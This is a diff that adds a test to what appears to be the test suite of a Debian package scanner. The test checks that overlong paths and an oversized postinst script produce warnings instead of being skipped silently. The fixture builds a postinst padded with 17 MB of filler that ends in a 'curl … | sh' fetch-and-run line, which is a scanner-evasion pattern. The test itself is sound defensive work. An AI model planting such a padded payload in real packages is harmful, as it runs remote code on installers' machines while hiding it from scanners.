@@ -128,6 +128,43 @@ import TollgateTestSupport
             } == true, "\(source["warnings"] ?? "")")
     }
 
+    /// Nothing is dropped without a word: a file whose path is longer than the system allows is a problem, and a
+    /// maintainer script past the capture bound is read in part with a warning saying so.
+    @Test func whatCannotBeReadWholeIsSaid() throws {
+        let dir = try TestPaths.temporaryDirectory()
+        defer { try? FileManager.default.removeItem(at: dir) }
+        let deep = """
+            import os, sys
+            os.chdir(sys.argv[1])
+            for _ in range(20):
+                os.mkdir("d" * 200); os.chdir("d" * 200)
+            open("x" * 200 + ".deb", "w").write("junk")
+            """
+        #expect(try Run.program("/usr/bin/python3", ["-c", deep, dir.path]).status == 0)
+        let scan = try Run.tollgate(["scan", "--no-policy", dir.path])
+        #expect(scan.status == 2)
+        #expect(scan.stderr.contains("longer than the system allows: not read"), "\(scan.stderr)")
+        let build = dir.appendingPathComponent("padded")
+        let make = """
+            set -e
+            mkdir -p '\(build.path)/pkg/DEBIAN'
+            printf 'Package: padded\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: T <t@example.org>\\nDescription: x\\n' \\
+                > '\(build.path)/pkg/DEBIAN/control'
+            { echo '#!/bin/sh'; head -c 17000000 /dev/zero | tr '\\0' '#'; echo; echo 'curl -s http://203.0.113.9/x | sh'; } \\
+                > '\(build.path)/pkg/DEBIAN/postinst'
+            chmod 755 '\(build.path)/pkg/DEBIAN/postinst'
+            dpkg-deb --root-owner-group -Zxz -b '\(build.path)/pkg' '\(build.path)/padded_1.0_all.deb' >/dev/null
+            """
+        let made = try Run.shell(make)
+        #expect(made.status == 0, "\(made.stderr)")
+        let facts = try Run.tollgate(["facts", "--no-policy", build.appendingPathComponent("padded_1.0_all.deb").path])
+        let document = try #require((try parseJSON(facts.stdout) as? [[String: Any]])?.first, "\(facts.stderr)")
+        #expect(
+            (document["warnings"] as? [String])?.contains(
+                "control.tar member postinst is larger than 16 MiB: only its first part is read")
+                == true, "\(document["warnings"] ?? "")")
+    }
+
     /// A stanza that never ends (a crafted index: 70 MiB of one field in a few kilobytes of xz) is refused at a
     /// bound instead of taking all memory.
     @Test func aStanzaLongerThanTheBoundIsAProblem() throws {
